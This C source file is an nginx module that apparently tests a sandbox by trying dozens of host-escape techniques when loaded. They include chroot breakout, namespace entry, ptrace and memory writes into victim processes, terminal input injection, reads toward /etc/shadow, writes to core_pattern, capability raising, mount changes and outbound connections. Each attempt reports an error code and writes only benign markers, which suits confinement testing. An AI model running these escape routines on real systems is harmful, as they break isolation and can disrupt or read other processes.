/* A module for nginx that attacks the host: while it is loaded (dlopen() runs its constructor), or
 * in a worker that has its first request, which runs as another user.
 *
 * Each attack runs in a process of its own for a moment. "attack NAME ERRNO" on standard error
 * says how it ended by its own sight: 0 when it was let do what it tried. What it really did to
 * the host is seen from outside, on the victims, whose names stand in victims.h. Nothing here
 * does harm where a wall is missing: what is written is a word, what is set is what it was.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <linux/capability.h>
#include <linux/if.h>
#include <mqueue.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/acct.h>
#include <sys/fanotify.h>
#include <sys/file.h>
#include <sys/inotify.h>
#include <sys/ioctl.h>
#include <sys/ipc.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/msg.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/quota.h>
#include <sys/resource.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/swap.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/time.h>
#include <sys/types.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <time.h>
#include <unistd.h>

#include "victims.h"
#include "hook.h"

/* What nginx wants of a module: there is none in it. */
void *ngx_modules[] = { NULL };
char *ngx_module_names[] = { NULL };
char *ngx_module_order[] = { NULL };

#define LENGTH(a) (sizeof(a) / sizeof((a)[0]))
#define TRY(call) do { if ((long) (call) >= 0) best = 0; else if (best) best = errno; } while (0)
#define ALL(list) for (size_t i = 0; i < LENGTH(list) && list[i]; i++)

static const char *at(const char *directory, const char *name)
{
    static char path[4096];
    snprintf(path, sizeof(path), "%s/%s", directory, name);
    return path;
}

static int append(const char *path)
{
    int fd = open(path, O_WRONLY | O_APPEND | O_NONBLOCK);
    if (fd < 0)
        return -1;
    int written = write(fd, "attacked\n", 9);
    close(fd);
    return written == 9 ? 0 : -1;
}

static int may_open(const char *path, int flags)
{
    int fd = open(path, flags | O_NONBLOCK | O_NOCTTY);
    return fd < 0 ? -1 : (close(fd), 0);
}

/* Files of the host, in every place. */
static int write_file(void) { int best = ENOENT; ALL(PLACES) TRY(append(at(PLACES[i], "old"))); return best; }
static int create_file(void) { int best = ENOENT; ALL(PLACES) TRY(open(at(PLACES[i], "created"), O_CREAT | O_WRONLY, 0644)); return best; }
static int unlink_file(void) { int best = ENOENT; ALL(PLACES) TRY(unlink(at(PLACES[i], "unlinked"))); return best; }
static int truncate_file(void) { int best = ENOENT; ALL(PLACES) TRY(truncate(at(PLACES[i], "truncated"), 1)); return best; }
static int chmod_file(void) { int best = ENOENT; ALL(PLACES) TRY(chmod(at(PLACES[i], "old"), 0600)); return best; }
static int chown_file(void) { int best = ENOENT; ALL(PLACES) TRY(chown(at(PLACES[i], "old"), 1, 1)); return best; }
static int touch_file(void) { int best = ENOENT; ALL(PLACES) TRY(utimensat(AT_FDCWD, at(PLACES[i], "old"), NULL, 0)); return best; }
static int make_directory(void) { int best = ENOENT; ALL(PLACES) TRY(mkdir(at(PLACES[i], "directory"), 0755)); return best; }
static int remove_directory(void) { int best = ENOENT; ALL(PLACES) TRY(rmdir(at(PLACES[i], "empty"))); return best; }
static int make_symlink(void) { int best = ENOENT; ALL(PLACES) TRY(symlink("old", at(PLACES[i], "symlink"))); return best; }
static int set_attribute(void) { int best = ENOENT; ALL(PLACES) TRY(setxattr(at(PLACES[i], "old"), "user.attacked", "1", 1, 0)); return best; }
static int make_pipe(void) { int best = ENOENT; ALL(PLACES) TRY(mkfifo(at(PLACES[i], "pipe"), 0644)); return best; }
static int rename_file(void)
{
    int best = ENOENT;
    char from[4096];
    ALL(PLACES) {
        strcpy(from, at(PLACES[i], "renamed"));
        TRY(rename(from, at(PLACES[i], "renamed-now")));
    }
    return best;
}
static int link_file(void)
{
    int best = ENOENT;
    char from[4096];
    ALL(PLACES) {
        strcpy(from, at(PLACES[i], "old"));
        TRY(link(from, at(PLACES[i], "linked")));
    }
    return best;
}
static int write_pipe(void) { int best = ENOENT; ALL(PLACES) TRY(append(at(PLACES[i], "host-pipe"))); return best; }
static int write_map(void)
{
    int best = ENOENT;
    ALL(PLACES) {
        int fd = open(at(PLACES[i], "old"), O_RDWR);
        char *map = fd < 0 ? MAP_FAILED : mmap(NULL, 5, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
        TRY(map == MAP_FAILED ? -1 : 0);
        if (map != MAP_FAILED)
            map[0] = 'X';
    }
    return best;
}
static int write_etc(void) { int best = ENOENT; TRY(open("/etc/nginx-tune-attacked", O_CREAT | O_WRONLY, 0644)); TRY(append("/etc/hosts")); return best; }
static int write_own_module(void) { int best = ENOENT; TRY(append(MODULE)); return best; }
static int see_hidden(void) { int best = ENOENT; TRY(may_open(HIDDEN, O_RDONLY)); return best; }

/* The way out of the root. */
static int roots_of_others(void)
{
    int best = ENOENT;
    char root[4096];
    const int pids[] = { 1, VICTIM, getppid(), 2 };
    for (size_t p = 0; p < LENGTH(pids); p++)
        ALL(PLACES) {
            snprintf(root, sizeof(root), "/proc/%d/root%s/old", pids[p], PLACES[i]);
            TRY(append(root));
            snprintf(root, sizeof(root), "/proc/%d/cwd/%s/old", pids[p], PLACES[i]);
            TRY(append(root));
        }
    return best;
}
static int escape_by_chroot(void)
{
    int best = ENOENT;
    mkdir("/tmp/jail", 0755);
    int here = open("/", O_RDONLY | O_DIRECTORY);
    if (chroot("/tmp/jail") == 0 || chroot("/dev/shm") == 0) {
        if (fchdir(here) != 0)
            return errno;
        for (int i = 0; i < 64; i++)
            if (chdir("..") != 0)
                break;
        if (chroot(".") != 0)
            return errno;
        TRY(may_open(HIDDEN, O_RDONLY));
        ALL(PLACES) TRY(append(at(PLACES[i], "old")));
    }
    return best;
}
static int inherited_descriptors(void)
{
    int best = EBADF;
    struct stat own, other;
    stat("/", &own);
    for (int fd = 3; fd < 1024; fd++) {
        if (fstat(fd, &other) != 0)
            continue;
        if (S_ISDIR(other.st_mode)) {
            ALL(PLACES) {
                char up[8192];
                snprintf(up, sizeof(up), "../../../../../../../../..%s/old", PLACES[i]);
                int got = openat(fd, up, O_WRONLY | O_APPEND);
                TRY(got < 0 ? -1 : (int) write(got, "attacked\n", 9));
            }
            TRY(openat(fd, HIDDEN + 1, O_RDONLY));
            TRY(openat(fd, "sys/kernel/core_pattern", O_WRONLY));
            TRY(openat(fd, "1/root/etc/shadow", O_RDONLY));
        } else if (S_ISREG(other.st_mode) && (fcntl(fd, F_GETFL) & O_ACCMODE) != O_RDONLY) {
            dprintf(2, "descriptor %d is a file open for writing\n", fd);
        }
    }
    return best;
}
static int handles(void)
{
    int best = ENOENT;
    struct { struct file_handle head; char bytes[128]; } handle = { .head.handle_bytes = 128 };
    int id;
    int fd = open("/", O_RDONLY | O_DIRECTORY);
    if (name_to_handle_at(AT_FDCWD, "/", &handle.head, &id, 0) != 0) {
        /* The root of most file systems: inode 2 of ext4. */
        handle.head.handle_bytes = 8;
        handle.head.handle_type = 1;
        memcpy(handle.bytes, "\2\0\0\0\0\0\0\0", 8);
    }
    TRY(open_by_handle_at(fd, &handle.head, O_RDONLY));
    return best;
}

/* Mounts. */
static int mount_tmpfs(void) { int best = ENOENT; TRY(mount("none", "/tmp", "tmpfs", 0, NULL)); TRY(mount("none", "/", "tmpfs", 0, NULL)); return best; }
static int mount_bind(void) { int best = ENOENT; ALL(PLACES) TRY(mount(PLACES[i], "/tmp", NULL, MS_BIND, NULL)); TRY(mount("/", "/tmp", NULL, MS_BIND, NULL)); return best; }
static int mount_proc(void) { int best = ENOENT; TRY(mount("proc", "/tmp", "proc", 0, NULL)); TRY(mount("sysfs", "/tmp", "sysfs", 0, NULL)); TRY(mount("devtmpfs", "/tmp", "devtmpfs", 0, NULL)); TRY(mount("cgroup", "/tmp", "cgroup", 0, "freezer")); TRY(mount("none", "/tmp", "cgroup2", 0, NULL)); return best; }
static int mount_move(void) { int best = ENOENT; ALL(PLACES) TRY(mount(PLACES[i], "/tmp", NULL, MS_MOVE, NULL)); return best; }
static int mount_shared(void) { int best = ENOENT; TRY(mount(NULL, "/", NULL, MS_SHARED | MS_REC, NULL)); return best; }
static int remount_writable(void)
{
    int best = ENOENT;
    TRY(mount(NULL, "/", NULL, MS_REMOUNT, NULL));
    TRY(mount(NULL, "/", NULL, MS_REMOUNT | MS_BIND, NULL));
    ALL(PLACES) {
        TRY(mount(NULL, PLACES[i], NULL, MS_REMOUNT, NULL));
        TRY(mount(NULL, PLACES[i], NULL, MS_REMOUNT | MS_BIND, NULL));
        append(at(PLACES[i], "old"));
    }
    return best;
}
static int unmount(void) { int best = ENOENT; ALL(PLACES) TRY(umount2(PLACES[i], MNT_DETACH)); TRY(umount2("/proc", MNT_DETACH)); TRY(umount2("/tmp", MNT_DETACH)); TRY(umount2("/", MNT_DETACH)); return best; }
static int pivot(void) { int best = ENOENT; TRY(syscall(SYS_pivot_root, "/tmp", "/tmp")); return best; }
static int new_mounts(void)
{
    int best = ENOENT;
    TRY(syscall(SYS_fsopen, "tmpfs", 0));
    TRY(syscall(SYS_open_tree, AT_FDCWD, "/", 1));
    TRY(syscall(SYS_fspick, AT_FDCWD, "/", 0));
    TRY(syscall(SYS_move_mount, AT_FDCWD, "/tmp", AT_FDCWD, "/dev/shm", 0));
    struct { unsigned long long set, clear, propagation, userns; } attr = { 0, 1, 0, 0 };
    TRY(syscall(SYS_mount_setattr, AT_FDCWD, "/", 0x8000, &attr, sizeof(attr)));
    return best;
}
static int mount_block(void) { int best = ENOENT; mknod("/tmp/disk", S_IFBLK | 0600, makedev(ROOT_MAJOR, ROOT_MINOR)); TRY(mount("/tmp/disk", "/tmp", "ext4", MS_RDONLY, NULL)); return best; }

/* Namespaces. */
static int unshare_some(void) { int best = ENOENT; TRY(unshare(CLONE_NEWNS)); TRY(unshare(CLONE_NEWNET)); TRY(unshare(CLONE_NEWPID)); TRY(unshare(CLONE_NEWUTS)); TRY(unshare(CLONE_NEWIPC)); TRY(unshare(CLONE_NEWCGROUP)); return best; }
static int unshare_user(void) { int best = ENOENT; TRY(unshare(CLONE_NEWUSER | CLONE_NEWNS)); return best; }
static int child_of_user(void *unused) { (void) unused; return 0; }
static int clone_user(void)
{
    int best = ENOENT;
    static char stack[65536];
    TRY(clone(child_of_user, stack + sizeof(stack), CLONE_NEWUSER | SIGCHLD, NULL));
    return best;
}
static int clone3_user(void)
{
    int best = ENOENT;
    unsigned long long args[11] = { CLONE_NEWUSER, 0, 0, 0, SIGCHLD };
    long child = syscall(SYS_clone3, args, 64);
    if (child == 0)
        _exit(0);
    TRY(child);
    return best;
}
static int enter_namespaces(void)
{
    int best = ENOENT;
    const char *kinds[] = { "mnt", "net", "pid", "ipc", "uts", "cgroup", "user" };
    const int pids[] = { 1, VICTIM, getppid() };
    char path[64];
    for (size_t p = 0; p < LENGTH(pids); p++)
        for (size_t k = 0; k < LENGTH(kinds); k++) {
            snprintf(path, sizeof(path), "/proc/%d/ns/%s", pids[p], kinds[k]);
            int fd = open(path, O_RDONLY);
            TRY(fd < 0 ? -1 : setns(fd, 0));
        }
    int pidfd = syscall(SYS_pidfd_open, VICTIM, 0);
    TRY(pidfd < 0 ? -1 : setns(pidfd, CLONE_NEWNS | CLONE_NEWNET));
    return best;
}

/* Processes of the host. */
static int signal_process(void) { int best = ENOENT; TRY(kill(VICTIM, SIGTERM)); TRY(kill(-VICTIM, SIGTERM)); TRY(syscall(SYS_tgkill, VICTIM, VICTIM, SIGTERM)); TRY(syscall(SYS_tkill, VICTIM, SIGTERM)); TRY(syscall(SYS_rt_sigqueueinfo, VICTIM, SIGTERM, (char[128]){ 0 })); return best; }
static int signal_by_descriptor(void) { int best = ENOENT; int fd = syscall(SYS_pidfd_open, VICTIM, 0); TRY(fd < 0 ? -1 : syscall(SYS_pidfd_send_signal, fd, SIGTERM, NULL, 0)); return best; }
static int take_descriptor(void) { int best = ENOENT; const int pids[] = { VICTIM, getppid() }; for (size_t p = 0; p < 2; p++) { int fd = syscall(SYS_pidfd_open, pids[p], 0); TRY(fd < 0 ? -1 : syscall(SYS_pidfd_getfd, fd, 0, 0)); } return best; }
static int trace_victim(void) { int best = ENOENT; TRY(ptrace(PTRACE_ATTACH, VICTIM, 0, 0)); TRY(ptrace(PTRACE_SEIZE, VICTIM, 0, 0)); TRY(ptrace(PTRACE_SEIZE, 1, 0, 0)); TRY(ptrace(PTRACE_SEIZE, getppid(), 0, 0)); return best; }
static int trace_me(void) { int best = ENOENT; TRY(ptrace(PTRACE_TRACEME, 0, 0, 0)); return best; }
static int write_memory(void)
{
    int best = ENOENT;
    char word[] = "x";
    struct iovec own = { word, 1 }, other = { (void *) 0x10000, 1 };
    const int pids[] = { VICTIM, 1, getppid() };
    char path[64];
    for (size_t p = 0; p < LENGTH(pids); p++) {
        errno = 0;
        long done = syscall(SYS_process_vm_writev, pids[p], &own, 1, &other, 1, 0);
        TRY(done < 0 && errno == EFAULT ? 0 : done); /* the right was there */
        snprintf(path, sizeof(path), "/proc/%d/mem", pids[p]);
        TRY(may_open(path, O_RDWR));
    }
    return best;
}
static int adjust_victim(void)
{
    int best = ENOENT;
    struct rlimit limit = { 100, 100 };
    cpu_set_t set;
    CPU_ZERO(&set);
    CPU_SET(0, &set);
    struct sched_param idle = { 0 };
    TRY(setpriority(PRIO_PROCESS, VICTIM, 19));
    TRY(prlimit(VICTIM, RLIMIT_NOFILE, &limit, NULL));
    TRY(sched_setaffinity(VICTIM, sizeof(set), &set));
    TRY(sched_setscheduler(VICTIM, SCHED_IDLE, &idle));
    TRY(syscall(SYS_ioprio_set, 1, VICTIM, 3 << 13));
    TRY(syscall(SYS_migrate_pages, VICTIM, 0, NULL, NULL));
    return best;
}
static int write_proc_of_victim(void)
{
    int best = ENOENT;
    const char *files[] = { "oom_score_adj", "comm", "coredump_filter", "autogroup", "clear_refs", "attr/current" };
    char path[64];
    for (size_t f = 0; f < LENGTH(files); f++) {
        snprintf(path, sizeof(path), "/proc/%d/%s", VICTIM, files[f]);
        int fd = open(path, O_WRONLY);
        TRY(fd < 0 ? -1 : (int) write(fd, "1", 1));
    }
    return best;
}
static int read_secrets_of_victim(void) { int best = ENOENT; char path[64]; const char *files[] = { "environ", "maps", "fd/0", "root" }; for (size_t f = 0; f < LENGTH(files); f++) { snprintf(path, sizeof(path), "/proc/%d/%s", VICTIM, files[f]); TRY(may_open(path, O_RDONLY)); } return best; }
static int compare_victim(void) { int best = ENOENT; TRY(syscall(SYS_kcmp, getpid(), VICTIM, 1, 0, 0)); return best; }
static int push_terminal(void)
{
    int best = ENOTTY;
    const char *ttys[] = { "/dev/tty", "/dev/console", "/dev/tty0", "/dev/pts/0", "/dev/pts/1", "/dev/ptmx" };
    for (size_t t = 0; t < LENGTH(ttys); t++) {
        int fd = open(ttys[t], O_RDWR | O_NOCTTY);
        TRY(fd < 0 ? -1 : 0);
        if (fd >= 0)
            TRY(ioctl(fd, TIOCSTI, "x"));
    }
    for (int fd = 0; fd < 64; fd++)
        if (isatty(fd))
            TRY(ioctl(fd, TIOCSTI, "x"));
    return best;
}

/* The kernel. */
static int load_module(void) { int best = ENOENT; TRY(syscall(SYS_init_module, "", 0, "")); if (best == ENOEXEC) best = 0; TRY(syscall(SYS_finit_module, -1, "", 0)); if (best == EBADF) best = 0; return best; }
static int unload_module(void) { int best = EPERM; errno = 0; syscall(SYS_delete_module, "nginx_tune_none", O_NONBLOCK); if (errno == ENOENT) best = 0; return best; }
static int load_kernel(void) { errno = 0; syscall(SYS_kexec_load, 0, 0, NULL, ~0UL); return errno == EINVAL ? 0 : errno; }
static int load_program(void)
{
    int best = ENOENT;
    unsigned int map[16] = { 2, 4, 4, 1 };
    TRY(syscall(SYS_bpf, 0, map, sizeof(map)));
    unsigned long long insns[] = { 0xb7, 0x95 };
    struct { unsigned int type, count; unsigned long long insns, license; unsigned int rest[24]; } load = { 1, 2, (unsigned long) insns, (unsigned long) "GPL", { 0 } };
    TRY(syscall(SYS_bpf, 5, &load, sizeof(load)));
    return best;
}
static int open_counter(void) { int best = ENOENT; unsigned int attr[32] = { 1, 128 }; TRY(syscall(SYS_perf_event_open, attr, 0, -1, -1, 0)); attr[0] = 1; TRY(syscall(SYS_perf_event_open, attr, -1, 0, -1, 0)); return best; }
static int handle_faults(void) { int best = ENOENT; TRY(syscall(SYS_userfaultfd, 0)); TRY(syscall(SYS_userfaultfd, 1)); return best; }
static int use_keys(void) { int best = ENOENT; TRY(syscall(SYS_add_key, "user", "nginx-tune-attack", "x", 1L, -3)); TRY(syscall(SYS_keyctl, 1, NULL)); errno = 0; long got = syscall(SYS_request_key, "user", KEY, NULL, 0); TRY(got); return best; }
static int use_ring(void) { int best = ENOENT; char params[256] = { 0 }; TRY(syscall(SYS_io_uring_setup, 4, params)); return best; }
static int read_log(void) { int best = ENOENT; char text[64]; TRY(syscall(SYS_syslog, 3, text, sizeof(text))); TRY(may_open("/dev/kmsg", O_RDONLY)); return best; }
static int restart(void) { errno = 0; syscall(SYS_reboot, 1, 2, 3, NULL); return errno == EINVAL ? 0 : errno; }
static int name_host(void) { int best = ENOENT; TRY(sethostname("attacked", 8)); TRY(setdomainname("attacked", 8)); return best; }
static int set_clock(void) { int best = ENOENT; TRY(syscall(SYS_settimeofday, NULL, NULL)); return best; }
static int swap_on(void) { errno = 0; swapon("/nginx-tune-none", 0); return errno == ENOENT || errno == EINVAL ? 0 : errno; }
static int account(void) { int best = ENOENT; TRY(acct(NULL)); return best; }
static int quota(void) { errno = 0; quotactl(QCMD(Q_QUOTAOFF, USRQUOTA), "/nginx-tune-none", 0, NULL); return errno == ENOENT ? 0 : errno; }
static int use_ports(void) { int best = ENOENT; TRY(syscall(SYS_iopl, 3)); TRY(syscall(SYS_ioperm, 0x80, 1, 1)); return best; }
static int hold_files(void)
{
    int best = ENOENT;
    struct flock lock = { .l_type = F_RDLCK, .l_whence = SEEK_SET };
    ALL(PLACES) {
        int fd = open(at(PLACES[i], "old"), O_RDONLY);
        if (fd < 0)
            continue;
        TRY(fcntl(fd, F_SETLEASE, F_RDLCK));
        TRY(flock(fd, LOCK_SH));
        TRY(fcntl(fd, F_SETLK, &lock));
        TRY(fcntl(fd, F_OFD_SETLK, &lock));
        TRY(fcntl(fd, F_NOTIFY, DN_MODIFY));
        close(fd);
    }
    return best;
}
static int watch_files(void) { int best = ENOENT; TRY(fanotify_init(FAN_CLASS_CONTENT, O_RDWR)); TRY(inotify_init1(0)); return best; }
static int personality_of_old(void) { int best = ENOENT; TRY(syscall(SYS_personality, 0x0040000)); return best; }
static int rights(void)
{
    struct __user_cap_header_struct head = { _LINUX_CAPABILITY_VERSION_3, 0 };
    struct __user_cap_data_struct data[2];
    syscall(SYS_capget, &head, data);
    unsigned int forbidden = ~((1u << CAP_CHOWN) | (1u << CAP_DAC_OVERRIDE) | (1u << CAP_KILL)
        | (1u << CAP_SETGID) | (1u << CAP_SETUID) | (1u << CAP_NET_BIND_SERVICE));
    for (int number = 0; number < 41; number++)
        if (((number < 32 ? forbidden >> number : 1) & 1) && prctl(PR_CAPBSET_READ, number) == 1)
            return 0; /* a program with file capabilities would have them */
    return (data[0].permitted & forbidden) || data[1].permitted ? 0 : EPERM;
}
static int raise_rights(void)
{
    int best = ENOENT;
    struct __user_cap_header_struct head = { _LINUX_CAPABILITY_VERSION_3, 0 };
    struct __user_cap_data_struct data[2] = { { ~0u, ~0u, ~0u }, { 0x1ff, 0x1ff, 0x1ff } };
    TRY(syscall(SYS_capset, &head, data));
    return best;
}
static int new_privileges(void) { return prctl(PR_GET_NO_NEW_PRIVS, 0, 0, 0, 0) == 1 ? EPERM : 0; }
static int unfiltered(void) { return prctl(PR_GET_SECCOMP, 0, 0, 0, 0) == 2 ? EPERM : 0; }
static int old_calls(void)
{
#if defined(__x86_64__)
    /* getpid() of the 32-bit table: a filter that knows one table alone lets it through. */
    long got = 20;
    __asm__ volatile("int $0x80" : "+a"(got) : : "memory", "r8", "r9", "r10", "r11");
    return got > 0 ? 0 : ENOSYS;
#else
    return ENOSYS;
#endif
}
static int x32_calls(void)
{
#if defined(__x86_64__)
    errno = 0;
    return syscall(0x40000000 + SYS_getpid) > 0 ? 0 : ENOSYS;
#else
    return ENOSYS;
#endif
}
static int run_foremost(void) { int best = ENOENT; struct sched_param first = { 1 }; TRY(sched_setscheduler(0, SCHED_FIFO, &first)); TRY(syscall(SYS_ioprio_set, 1, 0, (1 << 13) | 0)); return best; }
static int lock_memory(void) { int best = ENOENT; char *some = mmap(NULL, 64 << 20, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0); TRY(mlock(some, 64 << 20)); return best; }
static int raise_limits(void) { int best = ENOENT; struct rlimit limit; const int kinds[] = { RLIMIT_NPROC, RLIMIT_FSIZE, RLIMIT_CORE }; for (size_t k = 0; k < LENGTH(kinds); k++) { getrlimit(kinds[k], &limit); if (limit.rlim_max == RLIM_INFINITY) { errno = 0; TRY(0); continue; } limit.rlim_cur = limit.rlim_max = RLIM_INFINITY; TRY(setrlimit(kinds[k], &limit)); } return best; }

/* Network. */
static int family(int domain, int type, int protocol) { int fd = socket(domain, type, protocol); return fd < 0 ? -1 : (close(fd), 0); }
static int packet_socket(void) { int best = ENOENT; TRY(family(AF_PACKET, SOCK_RAW, htons(3))); TRY(family(AF_PACKET, SOCK_DGRAM, htons(3))); return best; }
static int raw_socket(void) { int best = ENOENT; TRY(family(AF_INET, SOCK_RAW, 1)); TRY(family(AF_INET6, SOCK_RAW, 58)); return best; }
static int netlink_socket(void) { int best = ENOENT; for (int p = 0; p < 22; p++) TRY(family(AF_NETLINK, SOCK_RAW, p)); return best; }
static int odd_sockets(void) { int best = ENOENT; const int kinds[] = { 9, 15, 16 + 22, 40, 29, 31, 44, 4, 5, 24, 30, 43 }; for (size_t k = 0; k < LENGTH(kinds); k++) { TRY(family(kinds[k], SOCK_STREAM, 0)); TRY(family(kinds[k], SOCK_DGRAM, 0)); TRY(family(kinds[k], SOCK_RAW, 2)); TRY(family(kinds[k], SOCK_SEQPACKET, 0)); } return best; }
static int change_link(void) { int best = ENOENT; struct ifreq request = { 0 }; strcpy(request.ifr_name, "lo"); int fd = socket(AF_INET, SOCK_DGRAM, 0); ioctl(fd, SIOCGIFFLAGS, &request); TRY(ioctl(fd, SIOCSIFFLAGS, &request)); return best; }
static int reach(int type, struct sockaddr *address, socklen_t length)
{
    int fd = socket(address->sa_family, type | SOCK_NONBLOCK, 0);
    if (fd < 0)
        return -1;
    int status = connect(fd, address, length);
    if (status < 0 && errno == EINPROGRESS) {
        fd_set set;
        FD_ZERO(&set);
        FD_SET(fd, &set);
        struct timeval time = { 0, 300000 };
        int error = ETIMEDOUT;
        socklen_t size = sizeof(error);
        if (select(fd + 1, NULL, &set, NULL, &time) == 1)
            getsockopt(fd, SOL_SOCKET, SO_ERROR, &error, &size);
        errno = error;
        status = error ? -1 : 0;
    }
    if (status == 0 && send(fd, "attacked\n", 9, MSG_NOSIGNAL) < 0)
        status = -1;
    close(fd);
    return status;
}
static int reach_path(const char *path)
{
    struct sockaddr_un address = { AF_UNIX, "" };
    strncpy(address.sun_path, path, sizeof(address.sun_path) - 1);
    int stream = reach(SOCK_STREAM, (struct sockaddr *) &address, sizeof(address));
    int datagram = reach(SOCK_DGRAM, (struct sockaddr *) &address, sizeof(address));
    return stream == 0 || datagram == 0 ? 0 : -1;
}
static int path_sockets(void) { int best = ENOENT; ALL(SOCKETS) TRY(reach_path(SOCKETS[i])); return best; }
static int path_sockets_elsewhere(void)
{
    int best = ENOENT;
    char path[200];
    const int pids[] = { 1, VICTIM, getppid() };
    for (size_t p = 0; p < LENGTH(pids); p++)
        ALL(SOCKETS) {
            snprintf(path, sizeof(path), "/proc/%d/root%s", pids[p], SOCKETS[i]);
            TRY(reach_path(path));
        }
    return best;
}
static int abstract_socket(void)
{
    int best = ENOENT;
    struct sockaddr_un address = { AF_UNIX, "" };
    strcpy(address.sun_path + 1, ABSTRACT);
    socklen_t length = offsetof(struct sockaddr_un, sun_path) + 1 + strlen(ABSTRACT);
    TRY(reach(SOCK_STREAM, (struct sockaddr *) &address, length));
    return best;
}
static int host_ports(void)
{
    int best = ENOENT;
    struct sockaddr_in four = { AF_INET, htons(PORT), { htonl(INADDR_LOOPBACK) }, { 0 } };
    struct sockaddr_in6 six = { AF_INET6, htons(PORT), 0, in6addr_loopback, 0 };
    TRY(reach(SOCK_STREAM, (struct sockaddr *) &four, sizeof(four)));
    TRY(reach(SOCK_STREAM, (struct sockaddr *) &six, sizeof(six)));
    /* A datagram goes without any answer: whether it came is seen by the victim. */
    reach(SOCK_DGRAM, (struct sockaddr *) &four, sizeof(four));
    reach(SOCK_DGRAM, (struct sockaddr *) &six, sizeof(six));
    return best;
}
static int far_hosts(void)
{
    int best = ENOENT;
    struct sockaddr_in far = { AF_INET, htons(53), { inet_addr(FAR) }, { 0 } };
    TRY(reach(SOCK_STREAM, (struct sockaddr *) &far, sizeof(far)));
    reach(SOCK_DGRAM, (struct sockaddr *) &far, sizeof(far));
    return best;
}

/* Devices, /proc and /sys. */
static int open_devices(void)
{
    int best = ENOENT;
    const char *devices[] = { "/dev/mem", "/dev/kmem", "/dev/port", "/dev/kmsg", "/dev/fuse", "/dev/loop-control", "/dev/loop0", "/dev/net/tun", "/dev/vda", "/dev/sda", "/dev/nvme0n1", "/dev/mapper/control", "/dev/kvm", "/dev/snapshot", "/dev/rtc", "/dev/watchdog", "/dev/autofs", "/dev/vhost-net", "/dev/cpu_dma_latency", "/dev/hwrng", "/dev/vsock", "/dev/btrfs-control", "/dev/uinput" };
    ALL(devices) TRY(may_open(devices[i], O_RDWR));
    return best;
}
static int write_devices(void) { int best = ENOENT; TRY(open("/dev/nginx-tune-attacked", O_CREAT | O_WRONLY, 0600)); TRY(unlink(DEVICE_SOCKET)); TRY(mkdir("/dev/nginx-tune-attack", 0755)); return best; }
static int make_device(void)
{
    int best = ENOENT;
    const char *places[] = { "/tmp", "/dev/shm", "/run", "/dev", "/var/tmp", "/var/log/nginx", "/var/lib/nginx" };
    ALL(places) {
        const char *path = at(places[i], "memory-device");
        if (mknod(path, S_IFCHR | 0666, makedev(1, 1)) == 0) TRY(may_open(path, O_RDWR)); else TRY(-1);
        path = at(places[i], "disk-device");
        if (mknod(path, S_IFBLK | 0666, makedev(ROOT_MAJOR, ROOT_MINOR)) == 0) TRY(may_open(path, O_RDWR));
    }
    return best;
}
static int write_settings(void)
{
    int best = ENOENT;
    const char *files[] = { "/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sys/kernel/hostname", "/proc/sys/vm/swappiness", "/proc/sys/vm/drop_caches", "/proc/sys/fs/file-max", "/proc/sys/kernel/pid_max", "/proc/sys/kernel/sysrq", "/proc/sysrq-trigger", "/proc/sys/fs/binfmt_misc/register", "/proc/irq/default_smp_affinity", "/proc/acpi/wakeup", "/proc/mtrr", "/proc/kcore", "/proc/sys/kernel/ns_last_pid", "/proc/sys/user/max_user_namespaces", "/proc/timer_list", "/proc/kpageflags" };
    ALL(files) TRY(may_open(files[i], i == 13 || i > 15 ? O_RDONLY : O_WRONLY));
    return best;
}
static int write_net_settings(void) { int best = ENOENT; TRY(may_open("/proc/sys/net/ipv4/ip_forward", O_WRONLY)); TRY(may_open("/proc/sys/net/core/somaxconn", O_WRONLY)); return best; }
static int write_sys(void)
{
    int best = ENOENT;
    const char *files[] = { "/sys/kernel/mm/transparent_hugepage/enabled", "/sys/kernel/uevent_helper", "/sys/power/state", "/sys/kernel/tracing/tracing_on", "/sys/kernel/debug/tracing/tracing_on", "/sys/module/kernel/parameters/panic", "/sys/block/loop0/queue/read_ahead_kb", "/sys/block/vda/queue/read_ahead_kb", "/sys/fs/cgroup/cgroup.procs", "/sys/fs/cgroup/freezer/cgroup.procs", "/sys/fs/cgroup/freezer/tasks", "/sys/fs/cgroup/memory/memory.force_empty", "/sys/fs/cgroup/unified/cgroup.procs" };
    ALL(files) TRY(may_open(files[i], O_WRONLY));
    return best;
}
static int leave_cgroup(void)
{
    int best = ENOENT;
    ALL(GROUPS) {
        TRY(mkdir(at(GROUPS[i], "attack"), 0755));
        int fd = open(at(GROUPS[i], "cgroup.procs"), O_WRONLY);
        TRY(fd < 0 ? -1 : (int) write(fd, "0", 1));
        /* The state that it has: who freezes himself is never seen again. */
        fd = open(at(GROUPS[i], "freezer.state"), O_WRONLY);
        TRY(fd < 0 ? -1 : (int) write(fd, "THAWED", 6));
    }
    return best;
}
static int spare_me(void) { int best = ENOENT; int fd = open("/proc/self/oom_score_adj", O_WRONLY); TRY(fd < 0 ? -1 : (int) write(fd, "-1000", 5)); return best; }
static int read_addresses(void)
{
    FILE *file = fopen("/proc/kallsyms", "r");
    unsigned long long first = 0, number = 0;
    for (int i = 0; file && i < 100 && fscanf(file, "%llx %*[^\n]", &number) == 1; i++)
        first |= number;
    return first ? 0 : EPERM;
}

/* Processes beside nginx's own and the first one of the sandbox, by their names. */
static int see_processes(void)
{
    char path[300], own[32] = "", name[32];
    int others = 0;
    DIR *all = opendir("/proc");
    FILE *file = fopen("/proc/self/comm", "r");
    if (!all || !file || !fgets(own, sizeof(own), file))
        return ENOENT;
    for (struct dirent *one; (one = readdir(all));) {
        snprintf(path, sizeof(path), "/proc/%s/comm", one->d_name);
        if (atoi(one->d_name) > 0 && (file = fopen(path, "r")) && fgets(name, sizeof(name), file))
            others += strcmp(own, name) != 0;
    }
    return others > 1 ? 0 : EPERM;
}
